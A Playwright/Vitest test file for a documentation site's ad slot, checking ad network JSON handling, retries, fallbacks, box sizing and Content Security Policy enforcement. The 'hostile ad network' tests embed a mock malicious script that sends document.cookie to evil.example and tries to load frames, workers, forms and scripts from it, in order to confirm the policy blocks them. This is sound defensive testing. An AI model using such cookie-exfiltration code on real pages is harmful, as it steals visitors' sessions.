/** The ad slot on a built site, with a network of our own making in the place of the real one. */

import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import { openPublishedSite } from '../../../src/server/published-site.js';
import { serveSite } from '../../../src/server/serve-site.js';
import { createLiveExtensions } from '../../../src/watch/live-extensions.js';
import { createPageEvents } from '../../../src/watch/page-events.js';
import { config, markdown, navigation, type SiteFiles } from '../../sites/fixture.js';
import { start, type Living } from '../browser.js';
import { waitForRest } from '../wait-for-rest.js';
import {
  blocked,
  breakAds,
  drawing,
  event,
  findReported,
  FOUND,
  serving,
  slotOf,
  started,
  stateOf,
  stopClock,
  visit,
  type Visiting,
  watching,
  type Network,
} from '../ads/visit-slot.js';

const SCRIPT = 'https://cdn.ads.example/carbon.js?serve=X&placement=acme';
const JSON_ADDRESS = 'https://srv.ads.example/ads/X.json';
const BACKERS = 'https://acme.example/discover-more/backers';

const house = ['templates', 'themes', 'support', 'kit'].map((name) => ({
  name,
  link: `https://acme.example/${name}/`,
  img: `/${name}.svg`,
  descriptionHeader: `The ${name}`,
  description: 'Words about it, as long as such words are wont to be, and then a few more of them.',
}));

const pages = (network: string): SiteFiles => ({
  'docsgen.config.ts': config(
    `ads: { inHouse: ${JSON.stringify(house)}, network: { ${network}, backersHref: '${BACKERS}' } },`,
  ),
  'navigation/acme.ts': navigation({ pathname: '/one' }, { pathname: '/two' }, { pathname: '/none' }),
  'pages/index.md': markdown('Acme', 'Welcome.'),
  'pages/one/index.md': markdown(
    'One',
    'First.\n\n{{"demo": "Hello.js"}}\n\n{{"demo": "Bye.js", "disableAd": true}}',
  ),
  'pages/one/Hello.tsx': 'export default function Hello() {\n  return <p>Hello</p>;\n}\n',
  'pages/one/Bye.tsx': 'export default function Bye() {\n  return <p>Bye</p>;\n}\n',
  'pages/two.md': markdown('Two', 'Second.'),
  'pages/none.md': markdown('None', 'No ad.', 'disableAd: true\n'),
  ...Object.fromEntries(
    house.map(({ img }) => [
      `public${img}`,
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 130 100"><path d="M0 0h130v100H0z"/></svg>',
    ]),
  ),
});

let byScript: Living;
let byJson: Living;

beforeAll(async () => {
  byScript = await start(pages(`script: '${SCRIPT}'`), 'ads-script');
  byJson = await start(pages(`json: '${JSON_ADDRESS}'`), 'ads-json');
});

afterAll(async () => Promise.all([byScript.close(), byJson.close()]));

const visitOne = (
  living: Living,
  visiting: Omit<Visiting, 'path'>,
  act: Parameters<typeof visit>[2],
): Promise<void> => visit(living, { path: '/one/', ...visiting }, act);

describe('the states of the slot', () => {
  test('ADS-19: a watch shows none, and asks no network for one, also where code is opened', async () => {
    const asked: string[] = [];
    const events = createPageEvents();
    const server = await serveSite({
      folder: byJson.site.outDir,
      getHost: openPublishedSite(byJson.site.outDir),
      address: { host: '127.0.0.1', port: 0 },
      extensions: createLiveExtensions({ events, diagnostics: () => '{"count":0,"diagnostics":[]}' }),
    });
    onTestFinished(async () => {
      events.close();
      await server.close();
    });
    const reader = await byJson.reader({ before: watching });
    await reader.context.route(/ads\.example/, async (route) => {
      asked.push(route.request().url());
      await route.abort();
    });
    const page = await reader.open(`http://127.0.0.1:${server.port}/one/`);
    await expect.poll(() => stateOf(page)).toBe('nothing');
    await page.locator('figure summary').first().click();
    await page.locator('figure details[open]').first().waitFor();
    await waitForRest(page);
    expect(await page.locator('.demo-ad').count()).toBe(0);
    expect(asked).toEqual([]);
    await reader.leave();
  });
});

const anAd = {
  statlink: 'https://srv.ads.example/click',
  image: 'https://srv.ads.example/image.png',
  company: 'Shop',
  description: 'Buys <b>and</b> sells.',
  statimp: '//srv.ads.example/seen.gif',
  pixel: 'https://srv.ads.example/one.gif?t=[timestamp]&u=[timestamp]||https://srv.ads.example/two.gif',
  timestamp: '1700000000',
};

const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/** Answers as the JSON address, in turn, and keeps what was asked for. */
const answering = (...answers: readonly unknown[]) => {
  const asked: string[] = [];
  const images: string[] = [];
  const network: Network = async (route) => {
    const url = route.request().url();
    if (url !== JSON_ADDRESS) {
      images.push(url);
      return route.fulfill({ contentType: 'image/gif', body: PIXEL });
    }
    const answer = answers[Math.min(asked.length, answers.length - 1)];
    asked.push(url);
    const body = typeof answer === 'string' ? answer : JSON.stringify(answer);
    return route.fulfill({
      contentType: 'application/json',
      headers: { 'Access-Control-Allow-Origin': '*' },
      body,
    });
  };
  return { network, asked, images };
};

describe('the network’s JSON', () => {
  test('NET-01, NET-04: the first entry that has a link is shown as text, with the images that count', async () => {
    const { network, asked, images } = answering({ ads: [{}, { company: 'No link' }, anAd] });
    await visitOne(byJson, { network, clock: false }, async (page) => {
      const link = slotOf(page).getByRole('link', { name: 'Buys <b>and</b> sells.' });
      await link.waitFor();
      expect(await link.getAttribute('href')).toBe('https://srv.ads.example/click');
      expect(await link.getAttribute('rel')).toBe('noopener sponsored');
      expect(await link.locator('b').innerText()).toBe('Shop ');
      expect(await slotOf(page).innerText()).toContain('ad by Carbon');
      expect(asked).toHaveLength(1);
      await expect
        .poll(() => images.toSorted())
        .toEqual([
          'https://srv.ads.example/image.png',
          'https://srv.ads.example/one.gif?t=1700000000&u=[timestamp]',
          'https://srv.ads.example/seen.gif',
          'https://srv.ads.example/two.gif',
        ]);
      const pixels = slotOf(page).locator('.carbonads > img');
      expect(await pixels.first().getAttribute('src')).toContain('seen.gif');
      expect(await pixels.first().isVisible()).toBe(false);
      expect(await stateOf(page)).toBe('carbon-body-top-image');
    });
  });

  test('ADS-08: one that throws leaves an empty box and a crash to the analytics, and is counted nowhere', async () => {
    const { network, images } = answering({ ads: [anAd] });
    const draws = [0.9, 0.9, 0, 0.1, 0.1, 0.1];
    await visitOne(byJson, { network, draws }, async (page) => {
      // The slot draws its ad before ads break; a demo's is drawn when its code is opened.
      await slotOf(page).locator('.carbonads a').waitFor({ state: 'attached' });
      await expect.poll(() => images).toHaveLength(4);
      await page.evaluate(breakAds);
      await page.clock.runFor(20_000);
      expect(await slotOf(page).locator('.carbonads a').count()).toBe(1);
      const demo = page.getByRole('figure').first();
      const counted = images.length;
      await demo.locator('summary').click();
      await expect.poll(() => findReported(page)).toContainEqual(event('crash', 'carbon-demo-inline'));
      expect(await demo.locator('.demo-ad').evaluate((box) => box.innerHTML)).toBe('');
      expect(images).toHaveLength(counted);
    });
    const reader = await byJson.reader({ before: breakAds });
    await reader.context.addInitScript(watching);
    await drawing(...draws)(reader);
    await reader.context.route(/ads\.example/, network);
    const page = await reader.context.newPage();
    await stopClock(page);
    await page.goto('/one/');
    await page.clock.runFor(60);
    await started(page);
    await expect.poll(() => findReported(page)).toEqual([event('crash', 'carbon-body-top-image')]);
    // Nothing takes its place, and nothing is said to have been displayed.
    await page.clock.runFor(20_000);
    expect(await slotOf(page).evaluate((slot) => slot.innerHTML)).toBe('');
    expect(await findReported(page)).toEqual([event('crash', 'carbon-body-top-image')]);
    await reader.leave();
  });

  test('NET-02: where no entry will do, it is asked again at once, ten times in total', async () => {
    const { network, asked } = answering({ ads: [{}] });
    await visitOne(byJson, { network }, async (page) => {
      await expect.poll(() => asked.length).toBe(10);
      await page.waitForLoadState('networkidle');
      await page.clock.runFor(3500);
      await expect.poll(() => stateOf(page)).toBe('in-house-body-top-image');
      expect(asked).toHaveLength(10);
    });
  });

  test('NET-02: the entry of a later answer is shown', async () => {
    const { network, asked } = answering({ ads: [] }, {}, { ads: [anAd] });
    await visitOne(byJson, { network, clock: false }, async (page) => {
      await slotOf(page).locator('.carbonads a').waitFor();
      expect(asked).toHaveLength(3);
    });
  });

  const failures: Readonly<Record<string, Network>> = {
    'cannot be reached': (route) => route.abort('connectionrefused'),
    'answers 500': (route) => route.fulfill({ status: 500, headers: { 'Access-Control-Allow-Origin': '*' } }),
    'answers 204': (route) => route.fulfill({ status: 204, headers: { 'Access-Control-Allow-Origin': '*' } }),
    'answers HTML': (route) =>
      route.fulfill({ body: '<p>no</p>', headers: { 'Access-Control-Allow-Origin': '*' } }),
    'answers far too much': (route) =>
      route.fulfill({
        body: JSON.stringify({ ads: [{ ...anAd, x: 'x'.repeat(5_000_000) }] }),
        headers: { 'Access-Control-Allow-Origin': '*' },
      }),
  };

  test.each(Object.entries(failures))(
    'NET-03, X11: a network that %s is asked once; then the house’s ad is shown',
    async (_, network) => {
      let asked = 0;
      const counting: Network = (route) => {
        asked += 1;
        return network(route);
      };
      await visitOne(byJson, { network: counting }, async (page) => {
        await expect.poll(() => asked).toBe(1);
        await page.waitForLoadState('networkidle');
        await page.clock.runFor(3500);
        await expect.poll(() => stateOf(page)).toBe('in-house-body-top-image');
        expect(asked).toBe(1);
      });
    },
  );

  test('NET-06: a reader who goes ends the asking', async () => {
    let asked = 0;
    let release = (): void => undefined;
    const held = new Promise<void>((resolve) => (release = resolve));
    const network: Network = async (route) => {
      asked += 1;
      await held;
      await route
        .fulfill({ body: '{"ads":[]}', headers: { 'Access-Control-Allow-Origin': '*' } })
        .catch(() => undefined);
    };
    await visitOne(byJson, { network, clock: false }, async (page) => {
      await expect.poll(() => asked).toBe(1);
      const ended = page.waitForEvent('requestfailed', (request) => request.url() === JSON_ADDRESS);
      await page.evaluate(() => dispatchEvent(new PageTransitionEvent('pagehide')));
      await ended;
      release();
      expect(asked).toBe(1);
      expect(await slotOf(page).locator('a').count()).toBe(0);
    });
  });

  test('an ad of one line comes under a demo whose code was looked at; a demo may do without', async () => {
    const { network } = answering({ ads: [anAd] });
    await visitOne(byJson, { network, clock: false }, async (page) => {
      const demo = page.getByRole('figure').first();
      expect(await demo.locator('.demo-ad').count()).toBe(0);
      await demo.locator('summary').click();
      await demo.locator('.demo-ad .carbonads').waitFor();
      expect((await demo.locator('.demo-ad').boundingBox())!.height).toBeGreaterThanOrEqual(52);
      expect(await demo.locator('.demo-ad a').getAttribute('data-ga-event-label')).toBe('carbon-demo-inline');
      await demo.locator('summary').click();
      expect(await demo.locator('.demo-ad').count()).toBe(1);
      const other = page.getByRole('figure').nth(1);
      await other.locator('summary').click();
      await other.locator('details[open]').waitFor();
      expect(await other.locator('.demo-ad').count()).toBe(0);
    });
  });
});

describe.concurrent('ADS-11: the box', () => {
  test.for([
    [360, 142],
    [600, 126],
    [1280, 126],
  ] as const)(
    'at %i px it is %i px high whatever is in it, and nothing on the page moves',
    async ([width, height], { expect }) => {
      const huge = answering({ ads: [{ ...anAd, description: 'Long words. '.repeat(100) }] });
      const cases = [
        { living: byScript, network: blocked, draws: [0.9, 0.9, 0], state: 'in-house-body' },
        { living: byScript, network: blocked, draws: [0.9, 0, 0], state: 'in-house-adblock' },
        {
          living: byScript,
          network: serving(FOUND.replace('Buy', 'Buy '.repeat(300))),
          draws: [0.9, 0.9, 0],
          state: 'carbon',
        },
        { living: byJson, network: huge.network, draws: [0.9, 0.9, 0], state: 'carbon' },
        { living: byJson, network: huge.network, draws: [0.1, 0.9, 0], state: 'carbon' },
      ] as const;
      for (const { living, network, draws, state } of cases) {
        const options = { viewport: { width, height: 800 } };
        await visitOne(living, { network, draws, options }, async (page) => {
          const box = (): Promise<number> =>
            slotOf(page).evaluate((slot) => slot.getBoundingClientRect().height);
          expect(await box()).toBe(height);
          await page.clock.runFor(state === 'carbon' ? 50 : 3500);
          if (state === 'carbon') await slotOf(page).locator('#carbonads, .carbonads a').first().waitFor();
          await expect.poll(() => stateOf(page)).toContain(state);
          await page.waitForLoadState('networkidle');
          expect(await box()).toBe(height);
          expect(await page.evaluate(() => (window as unknown as { moved: object[] }).moved)).toEqual([]);
        });
      }
    },
  );
});

describe('an ad network that is hostile', () => {
  test('X12: its script sends nothing elsewhere, and gets no frame, worker, place, clipboard or whole screen', async () => {
    // It begins on request: a form that is refused leaves Playwright in doubt whether the page is being left.
    const script = `${FOUND}; addEventListener('attack', async () => {
      const refused = (window.refused = []);
      addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
      fetch('https://evil.example/?' + document.cookie).catch(() => 0);
      new Image().src = 'https://evil.example/i.png';
      document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/a.css' }));
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
      try { eval('1'); } catch {}
      try { new Worker('https://evil.example/w.js'); } catch {}
      try { new Worker(URL.createObjectURL(new Blob(['']))); } catch {}
      const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: 'https://evil.example/' }));
      form.submit();
      const of = (name) => navigator.permissions.query({ name }).then(({ state }) => state, () => 'denied');
      window.permissions = await Promise.all(['geolocation', 'camera', 'microphone', 'clipboard-read'].map(of));
      window.whole = await document.documentElement.requestFullscreen().then(() => 'whole', () => 'refused');
    })`;
    const visiting = { network: serving(script), clock: false, allowed: /./ };
    await visitOne(byScript, visiting, async (page, { context }) => {
      const sent: string[] = [];
      // What the policy refuses does not come as far as a route.
      await context.route(/evil\.example/, async (route) => {
        sent.push(route.request().url());
        await route.abort();
      });
      await slotOf(page).locator('#carbonads').waitFor();
      // What an evaluation does itself, the policy lets pass.
      await page.evaluate(() => void setTimeout(() => dispatchEvent(new Event('attack'))));
      await expect.poll(() => page.evaluate(() => 'whole' in window)).toBe(true);
      const { permissions, whole } = await page.evaluate(() => {
        const own = window as unknown as Record<'permissions' | 'whole', unknown>;
        return { permissions: own.permissions, whole: own.whole };
      });
      const refused = (): Promise<readonly string[]> =>
        page.evaluate(() =>
          [...new Set((window as unknown as { readonly refused: string[] }).refused)].toSorted(),
        );
      // The browser itself refuses a frame and a form, and says so to the page.
      await expect
        .poll(refused)
        .toEqual([
          'base-uri',
          'connect-src',
          'form-action',
          'frame-src',
          'img-src',
          'script-src',
          'style-src-elem',
          'worker-src',
        ]);
      expect(permissions).toEqual(['denied', 'denied', 'denied', 'denied']);
      expect(whole).toBe('refused');
      expect(sent).toEqual([]);
    });
  });

  test('X12, CSP: what the policy does not name is not fetched; what its script does stays out of the page’s words', async () => {
    const script = `${FOUND}; const more = document.createElement('script'); more.src = 'https://evil.example/x.js'; document.head.append(more);
      const inline = document.createElement('script'); inline.textContent = 'window.isBroken = true'; document.head.append(inline);`;
    const visiting = { network: serving(script), clock: false, allowed: /Content Security Policy/ };
    await visitOne(byScript, visiting, async (page, { said }) => {
      await slotOf(page).locator('#carbonads').waitFor();
      expect(await page.evaluate(() => 'isBroken' in window)).toBe(false);
      const refused = () => said.filter((line) => line.includes('Content Security Policy'));
      await expect.poll(() => refused().length).toBeGreaterThanOrEqual(2);
    });
  });
});
